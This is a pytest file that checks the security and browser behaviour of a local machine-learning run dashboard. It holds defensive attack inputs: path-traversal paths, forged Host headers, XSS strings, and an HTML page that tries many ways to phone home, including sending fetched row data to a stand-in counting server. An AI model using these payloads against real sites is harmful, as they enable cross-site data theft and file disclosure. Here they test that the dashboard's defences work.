"""The dashboard as a browser and as an attacker see it."""

from __future__ import annotations

import http.client
import http.server
import json
import os
import signal
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from pathlib import Path

import pytest
import uvicorn

from ddtl.commands import cli
from ddtl.commands.dashboard import LOOPBACK, is_loopback
from ddtl.dashboard import patience
from ddtl.dashboard.server import app
from ddtl.utils.errors import UserError
from ddtl.utils.files import write_json, write_text
from tests.dashboard.test_index import started
from tests.reports.test_run_page import HOSTILE
from tests.support import browser, records, study_records, sweep_records
from tests.support.runs import ROOT

NAME = HOSTILE[1].replace("/", "")[:120]


@contextmanager
def served(root: Path) -> Iterator[int]:
    """The port of a dashboard."""
    listening = socket.create_server(("127.0.0.1", 0))
    config = uvicorn.Config(app(root, [*LOOPBACK, "[::1]"]), http=patience.Impatient, log_level="error", lifespan="off")
    server = uvicorn.Server(config)
    thread = threading.Thread(target=server.run, kwargs={"sockets": [listening]}, daemon=True)
    thread.start()
    try:
        yield listening.getsockname()[1]
    finally:
        server.should_exit = True
        thread.join(timeout=120)


@pytest.fixture(scope="module")
def root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    found = tmp_path_factory.mktemp("dashboard") / "runs"
    records.write(found / "covid19ct" / "one")
    records.write(found / "covid19ct" / "two", records.table(seed=1))
    started(found / "covid19ct" / "under_way")
    started(found / "odd" / NAME)
    (found / "covid19ct" / "one" / "report.html").write_text("<!doctype html><title>one</title><p>the page of one")
    (found.parent / "secret.html").write_text("secret")
    return found


@pytest.fixture(scope="module")
def port(root: Path) -> Iterator[int]:
    with served(root) as found:
        yield found


def ask(port: int, path: str, method: str = "GET", **headers: str) -> tuple[int, dict[str, str], bytes]:
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=240)
    connection.request(method, path, headers=headers)
    answer = connection.getresponse()
    return answer.status, {key.lower(): value for key, value in answer.getheaders()}, answer.read()


def test_rows_come_with_a_tag_and_once(port: int) -> None:
    status, headers, body = ask(port, "/api/rows")
    assert status == 200
    assert {row["name"] for row in json.loads(body)["rows"]} == {"one", "two", "under_way", NAME}
    assert ask(port, "/api/rows", **{"If-None-Match": headers["etag"]})[0] == 304


def test_a_report_is_shown_in_a_sandbox(port: int) -> None:
    status, headers, body = ask(port, "/report/covid19ct/one")
    assert (status, b'src="/page/covid19ct/one"' in body) == (200, True)
    assert "frame-src 'self'" in headers["content-security-policy"]
    assert b"not written by this version" in body
    status, headers, body = ask(port, "/page/covid19ct/one", **{"Sec-Fetch-Dest": "iframe"})
    assert (status, b"the page of one" in body) == (200, True)
    policy = headers["content-security-policy"]
    assert policy.startswith("sandbox allow-scripts allow-downloads; default-src 'none'; script-src 'sha256-")
    assert "unsafe" not in policy
    assert ask(port, "/page/covid19ct/one", **{"Sec-Fetch-Dest": "document"})[0] == 404
    for kind in ("report", "page"):
        assert ask(port, f"/{kind}/covid19ct/under_way")[0] == 404


def test_other_sites_learn_nothing(port: int) -> None:
    both = "run=covid19ct/one&run=covid19ct/two"
    for page in (
        "/api/rows",
        f"/api/logs?{both}",
        f"/api/differences?{both}",
        f"/compare?{both}",
        "/report/covid19ct/one",
        "/page/covid19ct/one",
    ):
        for origin in ("cross-site", "same-site"):
            assert ask(port, page, **{"Sec-Fetch-Site": origin})[0] == 403
        assert ask(port, page, **{"Sec-Fetch-Site": "same-origin"})[0] == 200
    assert ask(port, "/", **{"Sec-Fetch-Site": "cross-site"})[0] == 200  # a link to it


def test_a_client_that_never_asks_or_never_ends_is_cut_off(port: int) -> None:
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(patience, "ASKING", 1.0)
        for words in (b"", b"GET / HT", b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX: "):
            cut_off = suppress(ConnectionResetError, BrokenPipeError)  # it may be before it sends a word
            with cut_off, socket.create_connection(("127.0.0.1", port), timeout=240) as client:
                client.sendall(words)
                assert client.recv(100) == b""
    assert ask(port, "/")[0] == 200


@pytest.mark.parametrize(
    ("host", "here"),
    [
        ("127.0.0.1", True), ("127.8.9.10", True), ("::1", True), ("localhost", True), ("LOCALHOST", True),
        ("::ffff:127.0.0.1", True), ("0.0.0.0", False), ("::", False), ("192.168.1.2", False), ("example.org", False),
        ("127.0.0.1.example.org", False),
    ],
)  # fmt: skip
def test_which_addresses_are_this_machine_alone(host: str, here: bool) -> None:
    assert is_loopback(host) is here


@pytest.mark.parametrize(
    "path",
    [
        "/report/../secret.html", "/report/..%2f..%2fsecret.html", "/report/%2e%2e/secret", "/report//etc/passwd",
        "/report/covid19ct", "/report/covid19ct/one/report.html", "/report/covid19ct/one/../../../secret.html",
        "/api/logs?run=../x", "/api/differences?run=odd", "/api/sweep?run=covid19ct/one", "/api/sweep",
        "/covid19ct/one/log.txt", "/covid19ct/one/notes.json",
        "/static/../server.py", "/static/..%2fserver.py", "/static/dashboard.html", "/api/curves?run=../x",
        "/covid19ct/one/results.json", "/report/", "/docs",
    ],
)  # fmt: skip
def test_nothing_but_rows_can_be_had(port: int, path: str) -> None:
    status, _, body = ask(port, path)
    assert status == 404
    assert not body.startswith(b"secret")
    assert b"root:" not in body


def test_links_out_of_the_folder_lead_nowhere(root: Path, tmp_path: Path) -> None:
    records.write(tmp_path / "runs" / "d" / "run")
    page = tmp_path / "runs" / "d" / "run" / "report.html"
    page.unlink(missing_ok=True)
    page.symlink_to(root.parent / "secret.html")
    with served(tmp_path / "runs") as port:
        assert ask(port, "/report/d/run")[0] == 404


@pytest.mark.parametrize("method", ["POST", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE"])
def test_nothing_can_be_changed(port: int, method: str) -> None:
    for path in ("/", "/api/rows", "/report/covid19ct/one", "/compare"):
        assert ask(port, path, method)[0] == 405


@pytest.mark.parametrize("host", ["evil.example", "evil.example:80", "127.0.0.1.evil.example", ""])
def test_another_host_is_refused(port: int, host: str) -> None:
    assert ask(port, "/api/rows", Host=host)[0] == 400


def test_what_cannot_be_compared_is_said(port: int) -> None:
    for query, said in (
        ("run=covid19ct/one", b"Pick two runs"),
        ("run=covid19ct/one&run=covid19ct/under_way", b"not finished"),
    ):
        status, _, body = ask(port, f"/compare?{query}")
        assert (status, said in body) == (422, True)


def test_a_port_that_is_taken_is_named(root: Path, port: int) -> None:
    from ddtl.commands import dashboard

    with pytest.raises(UserError, match="port=0"):
        dashboard.main([f"paths.runs_dir={root}", f"port={port}"])
    with pytest.raises(UserError, match="Did you mean port"):
        dashboard.main(["prot=1"])
    with pytest.raises(UserError, match=r"paths\.runs_dir=FOLDER"):
        dashboard.main(["paths.runs_dir=/nowhere"])


def until(tab: browser.Tab, script: str) -> None:
    """Wait until an expression on the page is true."""
    end = time.monotonic() + 240
    while not tab.run(script):
        assert time.monotonic() < end, script
        time.sleep(0.1)


@pytest.mark.slow
def test_in_a_browser_it_sorts_filters_compares_and_keeps_up(root: Path, port: int, tmp_path: Path) -> None:
    with browser.opened(tmp_path / "profile") as tab:
        tab.go(f"http://127.0.0.1:{port}/", width=1400)
        until(tab, "document.querySelectorAll('#body tr[data-path]').length === 4")
        names = "[...document.querySelectorAll('#body td.name')].map(cell => cell.textContent)"
        assert NAME in tab.run(names)
        # sort by name, both ways
        tab.run("document.querySelector('#head th[data-key=name] button').click()")
        up = tab.run(names)
        tab.run("document.querySelector('#head th[data-key=name] button').click()")
        assert tab.run(names) == up[::-1]
        assert tab.run("document.querySelector('#head th[data-key=name]').ariaSort") == "descending"
        # filter
        tab.run("document.getElementById('filter').value = 'covid19ct finished'")
        tab.run("document.getElementById('filter').dispatchEvent(new Event('input'))")
        assert sorted(tab.run(names)) == ["one", "two"]
        # pick both, look at their curves and compare them
        tab.run("document.querySelectorAll('#body input').forEach(box => box.click())")
        assert tab.run("document.getElementById('picked-count').textContent") == "2 picked"
        tab.run("document.getElementById('curves').click()")
        until(tab, "document.querySelectorAll('#charts .main-svg').length > 0")
        tab.run("document.getElementById('filter').value = ''")
        tab.run("document.getElementById('filter').dispatchEvent(new Event('input'))")
        # a new epoch of a running training
        folder = root / "covid19ct" / "under_way"
        write_json(folder / ".owner.json", {"pid": os.getpid(), "host": socket.gethostname()})
        epochs = "[...document.querySelectorAll('#body tr')].map(row => row.textContent).join('|')"
        until(tab, f"{epochs}.includes('2/5')")
        until(tab, "document.querySelectorAll('tr.running').length === 1")
        with (folder / "metrics.jsonl").open("a") as file:
            file.write('/roc_auc": 0.9}\n')
        until(tab, f"{epochs}.includes('3/5')")
        until(tab, "document.getElementById('status').textContent.includes('epoch 3 of 5')")
        assert tab.run("document.querySelectorAll('#body img, #body script').length") == 0
        assert tab.complaints == []
        compare = tab.run("document.getElementById('compare').href")
        tab.go(compare, width=1200)
        until(tab, "document.querySelectorAll('.main-svg').length > 0")
        assert "What may be claimed" in tab.run("document.body.textContent")
        # On a phone nothing leads out of the page.
        tab.go(f"http://127.0.0.1:{port}/", width=390)
        until(tab, "document.querySelectorAll('#body tr[data-path]').length === 4")
        assert tab.run("document.documentElement.scrollWidth") <= 390
        assert [
            one for one in tab.requests if not one.startswith((f"http://127.0.0.1:{port}/", "data:", "blob:"))
        ] == []
        assert tab.complaints == []


# What somebody may put into a page that is passed on; HOME counts who calls.
PHONES_HOME = """<!doctype html><html><head>
<meta http-equiv="refresh" content="1; url=HOME/refresh"><link rel="preconnect" href="HOME/connect">
<link rel="stylesheet" href="HOME/style"><link rel="prefetch" href="HOME/prefetch"><link rel="icon" href="HOME/icon">
<style>@import "HOME/import"; body { background: url(HOME/body) } @font-face { font-family: x; src: url(HOME/font) }
</style></head><body style="background: url(HOME/attribute); font-family: x" onload="fetch('HOME/onload')">
<img src="HOME/img" onerror="location = 'HOME/onerror'"><iframe src="HOME/frame"></iframe><object data="HOME/o"/>
<video src="HOME/video" poster="HOME/poster"></video><svg><image href="HOME/svg"/><use href="HOME/use#x"/></svg>
<script src="HOME/script"></script>
<script>
fetch("HOME/fetch"); navigator.sendBeacon("HOME/beacon"); new Image().src = "HOME/image"; new WebSocket("WS/socket");
new EventSource("HOME/events"); window.open("HOME/popup"); setTimeout(() => { top.location = "HOME/top"; }, 200);
fetch("/api/rows").then(a => a.text()).then(t => { location = "HOME/stolen?" + t; });
</script>
<form action="HOME/form" method="post"><button id="b">x</button></form><script>document.forms[0].submit()</script>
<a id="a" href="HOME/link" ping="HOME/ping">x</a><script>document.getElementById("a").click()</script>
words of the page</body></html>"""


@contextmanager
def counting() -> Iterator[tuple[str, list[str]]]:
    """A server's address, and every path that it has been asked for."""
    asked: list[str] = []

    class Home(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(204)
            self.end_headers()

        do_POST = do_GET  # noqa: N815  # the name is http.server's

        def log_message(self, *_: object) -> None:
            """Into the list alone."""

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Home)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_port}", asked
    finally:
        server.shutdown()
        server.server_close()


@pytest.mark.slow
def test_a_page_from_a_stranger_phones_nobody(root: Path, port: int, tmp_path: Path) -> None:
    with counting() as (home, asked), browser.opened(tmp_path / "profile") as tab:
        page = PHONES_HOME.replace("HOME", home).replace("WS", home.replace("http", "ws"))
        (root / "covid19ct" / "two" / "report.html").write_text(page)
        tab.go(f"http://127.0.0.1:{port}/report/covid19ct/two", width=1200)
        time.sleep(4)
        assert tab.run("location.pathname") == "/report/covid19ct/two"
        assert f"http://127.0.0.1:{port}/page/covid19ct/two" in tab.requests
        assert asked == []
        # The counter counts, and the page does what it can where nothing stops it.
        (tmp_path / "page.html").write_text(page)
        tab.go((tmp_path / "page.html").as_uri(), width=1200)
        end = time.monotonic() + 240
        while len(set(asked)) <= 3:  # which of them are in time differs
            assert time.monotonic() < end, asked
            time.sleep(0.05)


@pytest.mark.slow
def test_our_own_page_works_within_its_frame(root: Path, port: int, tmp_path: Path) -> None:
    from ddtl.commands.report import write

    write(root / "covid19ct" / "one")
    with browser.opened(tmp_path / "profile") as tab:
        tab.go(f"http://127.0.0.1:{port}/report/covid19ct/one", width=1200)
        until(tab, "document.querySelector('iframe') !== null")
        assert tab.run("document.querySelector('p')") is None
        time.sleep(3)
        assert tab.complaints == []
        tab.picture(tmp_path / "frame.png")
        # The same page by itself, under the policy of its own head.
        tab.go((root / "covid19ct" / "one" / "report.html").as_uri(), width=1200)
        until(tab, "document.querySelectorAll('.main-svg').length > 0")
        assert tab.complaints == []


def click(tab: browser.Tab, where: str) -> None:
    tab.run(f"document.querySelector({json.dumps(where)}).click()")


NAMES = "[...document.querySelectorAll('#body tr[data-path] td.name .holder > :is(a, span)')].map(c => c.textContent)"


@pytest.fixture
def project(tmp_path: Path) -> Path:
    return write_project(tmp_path)


def write_project(folder: Path) -> Path:
    """Two datasets, a sweep of which two runs are there, a study, hostile notes, and a log."""
    found = folder / "lungs" / "runs"
    records.write(found / "covid19ct" / "alone")
    records.write(found / "other" / "elsewhere", overrides=("dataset=covid19ct", "optimizer.lr=0.002", "seed=4"))
    record = sweep_records.record(24)
    for trial, name in zip(record["trials"], ("trial_a", "trial_b"), strict=False):
        trial["run"] = name
        records.write(found / "covid19ct" / name)
    (found / "sweeps" / "search").mkdir(parents=True)
    write_json(found / "sweeps" / "search" / "sweep.json", record)
    study_records.cross_dataset(found)
    hostile = {"note": HOSTILE_NOTE, "tags": ["baseline", "<b>bold</b>"]}
    (found / "covid19ct" / "alone" / "notes.json").write_text(json.dumps(hostile))
    (found / "covid19ct" / "alone" / "log.txt").write_text("epoch 1/3 <script>document.x = 1</script>\n")
    return found


HOSTILE_NOTE = "<img src=x onerror='document.x = 1'><script>document.x = 1</script> {{7*7}} \u202e" + "long " * 200


@pytest.mark.slow
def test_in_a_browser_runs_are_grouped_and_a_link_restores_the_view(project: Path, tmp_path: Path) -> None:
    with served(project) as port, browser.opened(tmp_path / "profile") as tab:
        home = f"http://127.0.0.1:{port}/"
        tab.go(home, width=1280)
        until(tab, "document.querySelectorAll('#body tr.group').length > 1")
        assert tab.run("document.getElementById('where').textContent") == "lungs"
        assert "lungs" in tab.run("document.title")
        assert str(project) not in tab.run("document.body.innerText")
        # Trials and a study's runs are folded away, until a click.
        assert {"search", "cross_dataset", "alone", "elsewhere"} <= set(tab.run(NAMES))
        assert not {"trial_a", "trial_b"} & set(tab.run(NAMES))
        click(tab, "[data-fold='sweeps/search']")
        assert {"trial_a", "trial_b"} <= set(tab.run(NAMES))
        # A filter opens what contains a match.
        click(tab, "[data-fold='sweeps/search']")
        tab.run("const f = document.getElementById('filter'); f.value = 'trial_a'; f.dispatchEvent(new Event('input'))")
        assert set(tab.run(NAMES)) == {"search", "trial_a"}
        # The hostile note and tag are text; a tag filters by a click.
        tab.run("f.value = ''; f.dispatchEvent(new Event('input'))")
        assert "onerror" in tab.run("document.querySelector('#body td.user_note:not(.empty)').textContent")
        click(tab, "#body .tag")
        assert tab.run(NAMES) == ["alone"]
        # Another view: sorted, other columns, two runs picked with curves and differences.
        tab.run("f.value = ''; f.dispatchEvent(new Event('input'))")
        click(tab, "#head th[data-key=name] button")
        click(tab, "#column-list input[data-key=protocol]")
        click(tab, "#column-list input[data-key=seed]")
        for path in ("covid19ct/alone", "other/elsewhere"):
            click(tab, f"tr[data-path='{path}'] .pick input")
        for name in ("curves", "differences", "logs"):
            click(tab, f"#{name}")
        until(tab, "document.querySelectorAll('#charts .main-svg').length > 0")
        until(tab, "document.querySelectorAll('#difference-table tbody tr').length > 0")
        until(tab, "document.getElementById('log-list').textContent.includes('epoch 1/3')")
        keys = tab.run("[...document.querySelectorAll('#difference-table tbody th')].map(c => c.textContent)")
        assert {"optimizer.lr", "seed"} <= set(keys)
        assert "optimizer.weight_decay" not in keys
        seen = "[JSON.stringify([...document.querySelectorAll('#head th')].map(c => c.dataset.key + c.ariaSort)), {}]"
        before = tab.run(seen.format(NAMES))
        assert "protocol" in before[0]
        assert "seed" not in before[0]
        address = tab.run("location.href")
        tab.go("about:blank", width=1280)
        tab.go(address, width=1280)
        until(tab, "document.querySelectorAll('#charts .main-svg').length > 0")
        until(tab, "document.querySelectorAll('#difference-table tbody tr').length > 0")
        assert tab.run(seen.format(NAMES)) == before
        assert tab.run("document.getElementById('picked-count').textContent") == "2 picked"
        assert tab.run("document.querySelectorAll('#body .pick input:checked').length") == 2
        assert tab.run("document.x") is None
        assert tab.run("document.querySelectorAll('#body img, #body script, #body b, pre script').length") == 0
        assert tab.complaints == []
        assert [one for one in tab.requests if not one.startswith((home, "data:", "blob:", "about:"))] == []


VIEWS = "[...document.querySelectorAll('#view-list a')].map(a => a.textContent)"


@pytest.mark.slow
def test_in_a_browser_a_view_is_kept_under_a_name_and_removed(project: Path, tmp_path: Path) -> None:
    hostile = "<img src=x onerror=document.x=1>"
    assert cli.main(["runs", "view", hostile, "x/#filter=elsewhere&sort=name", f"paths.runs_dir={project}"]) == 0
    with served(project) as port, browser.opened(tmp_path / "profile") as tab:
        home = f"http://127.0.0.1:{port}/"
        tab.go(f"{home}#filter=alone", width=1280)
        until(tab, f"{VIEWS}.length === 1")
        assert tab.run(NAMES) == ["alone"]
        click(tab, "#views summary")
        click(tab, "#keep")
        assert tab.run("document.getElementById('status').textContent") == "Give the view a name."
        tab.run("document.getElementById('view-name').value = ' mine '")
        click(tab, "#keep")
        assert tab.run(VIEWS) == [hostile, "mine"]
        assert tab.run("document.querySelectorAll('#view-list a')[1].ariaCurrent") == "true"
        click(tab, "#view-list li:first-child a")
        until(tab, f"{NAMES}.includes('elsewhere') && !{NAMES}.includes('alone')")
        assert tab.run("[...document.querySelectorAll('#view-list a')].map(a => a.ariaCurrent)") == ["true", "false"]
        tab.go("about:blank", width=1280)
        tab.go(home, width=1280)
        until(tab, f"{VIEWS}.length === 2")
        click(tab, "#view-list li:last-child a")
        until(tab, f"{NAMES}.includes('alone') && !{NAMES}.includes('elsewhere')")
        assert tab.run("document.querySelectorAll('#view-list button').length") == 1
        click(tab, "#view-list button")
        assert tab.run(VIEWS) == [hostile]
        # Another one of everyone's arrives by itself, and what is in the browser's store may be anything.
        tab.run("Object.keys(localStorage).forEach(key => localStorage.setItem(key, '{\"a\": 1}'))")
        assert cli.main(["runs", "view", "late", "#state=finished", f"paths.runs_dir={project}"]) == 0
        until(tab, f"{VIEWS}.includes('late')")
        write_text(project / "views.json", "{")
        until(tab, "document.getElementById('no-views').textContent.startsWith('views.json cannot be read')")
        assert tab.run("document.x") is None
        assert tab.complaints == []


def values(tab: browser.Tab, chart: int = 1) -> list[list[float]]:
    """Every line's y on a chart, as it is drawn."""
    found: list[list[float]] = tab.run(f"document.querySelectorAll('#charts .chart')[{chart}].data.map(t => t.y)")
    return found


@pytest.mark.slow
def test_in_a_browser_curves_are_smoothed_and_scaled(project: Path, tmp_path: Path) -> None:
    path = project / "covid19ct" / "alone" / "metrics.jsonl"
    losses = [1.0, 0.9, 0.8, 0.7, 0.65, 1000.0, 0.6, 0.5]
    rows = [{"epoch": i, "val/loss": value, "train/loss": -1.0} for i, value in enumerate(losses)]
    path.write_text("".join(json.dumps(row) + "\n" for row in rows))
    with served(project) as port, browser.opened(tmp_path / "profile") as tab:
        tab.go(f"http://127.0.0.1:{port}/#run=covid19ct%2Falone&show=curves", width=1280)
        until(tab, "document.querySelectorAll('#charts .main-svg').length > 0")
        assert values(tab) == [losses]
        assert tab.run("document.querySelectorAll('#legend li').length") == 1
        assert tab.run("document.querySelectorAll('#charts .legend').length") == 0
        # The exponential moving average, corrected for its start, over the faint line itself.
        tab.run("const s = document.getElementById('smooth'); s.value = 0.5; s.dispatchEvent(new Event('input'))")
        raw, smooth = values(tab)
        assert raw == losses
        expected, total = [], 0.0
        for n, value in enumerate(losses, start=1):
            total = 0.5 * total + 0.5 * value
            expected.append(total / (1 - 0.5**n))
        assert smooth == pytest.approx(expected)
        tab.run("s.value = 0; s.dispatchEvent(new Event('input'))")
        # Without outliers.
        click(tab, "#robust")
        low, high = tab.run("document.querySelectorAll('#charts .chart')[1].layout.yaxis.range")
        assert 0.4 < low < 0.5
        assert 1.0 < high < 1.1
        assert "1 outlier is outside" in tab.run("document.getElementById('charts').textContent")
        # Logarithmic, where there is something above 0.
        click(tab, "#robust")
        click(tab, "#log")
        kinds = tab.run("[...document.querySelectorAll('#charts .chart')].map(c => c.layout.yaxis.type)")
        assert kinds[1] == "log"
        assert kinds[0] != "log"
        assert "no value is above 0" in tab.run("document.getElementById('charts').textContent")
        # The legend hides a line in every chart.
        click(tab, "#legend button")
        assert values(tab) == []
        assert tab.complaints == []


@pytest.mark.slow
def test_in_a_browser_a_sweep_is_drawn_while_it_runs(project: Path, tmp_path: Path) -> None:
    with served(project) as port, browser.opened(tmp_path / "profile") as tab:
        tab.go(f"http://127.0.0.1:{port}/", width=1280)
        until(tab, "document.querySelector(\"tr[data-path='sweeps/search'] .small\") !== null")
        click(tab, "tr[data-path='sweeps/search'] .small")
        charts = "document.querySelectorAll('#sweep-charts .main-svg').length"
        until(tab, f"{charts} > 0")
        titles = tab.run("[...document.querySelectorAll('#sweep-charts h3')].map(c => c.textContent)")
        assert {"optimizer.lr", "augment", "Trial by trial"} <= set(titles)
        points = "[...document.querySelectorAll('#sweep-charts .chart')][1].data.reduce((n, t) => n + t.x.length, 0)"
        before = tab.run(points)
        write_json(project / "sweeps" / "search" / "sweep.json", sweep_records.record(40))
        until(tab, f"{points} > {before}")
        assert tab.complaints == []


LAYOUT = """(() => {
  const wide = [...document.querySelectorAll('main *')].filter((e) => {
    const box = e.getBoundingClientRect();
    return box.width && (box.right > innerWidth + 1 || box.left < -1) && !e.closest('svg, #difference-table, pre');
  }).map((e) => `${e.tagName}.${e.className}#${e.id}`);
  const cells = [...document.querySelectorAll('#body td:not(.empty)')].filter((e) => e.scrollWidth > e.clientWidth + 1)
    .map((e) => e.className);
  return JSON.stringify({page: document.documentElement.scrollWidth - innerWidth, wide, cells});
})()"""


@pytest.mark.slow
@pytest.mark.parametrize("width", [1280, 390])
def test_in_a_browser_it_fits_a_laptop_and_a_phone(project: Path, tmp_path: Path, width: int) -> None:
    view = "#run=covid19ct%2Falone&run=other%2Felsewhere&show=curves,differences,logs&sweep=sweeps%2Fsearch"
    with served(project) as port, browser.opened(tmp_path / "profile") as tab:
        for dark in (False, True):
            tab.go("about:blank", width=width)
            tab.go(f"http://127.0.0.1:{port}/{view}", width=width, dark=dark)
            until(tab, "document.querySelectorAll('#charts .main-svg').length > 0")
            until(tab, "document.querySelectorAll('#sweep-charts .main-svg').length > 0")
            click(tab, "[data-fold='sweeps/search']")
            assert json.loads(tab.run(LAYOUT)) == {"page": 0, "wide": [], "cells": []}
        assert tab.complaints == []


def test_ctrl_c_ends_it_and_offers_to_resume_nothing(tmp_path: Path) -> None:
    command = [sys.executable, "-m", "ddtl", "dashboard", f"paths.runs_dir={tmp_path}", "port=0"]
    with subprocess.Popen(command, cwd=ROOT, stderr=subprocess.PIPE, text=True) as process:
        assert process.stderr is not None
        address = process.stderr.readline().split(": ", 1)[1].split()[0]
        while process.poll() is None:  # uvicorn, which answers signals itself, listens once it does
            with suppress(OSError), socket.create_connection(("127.0.0.1", int(address.rpartition(":")[2])), 60):
                break
            time.sleep(0.05)
        process.send_signal(signal.SIGINT)
        assert process.wait(240) == 130
        assert process.stderr.read() == ""
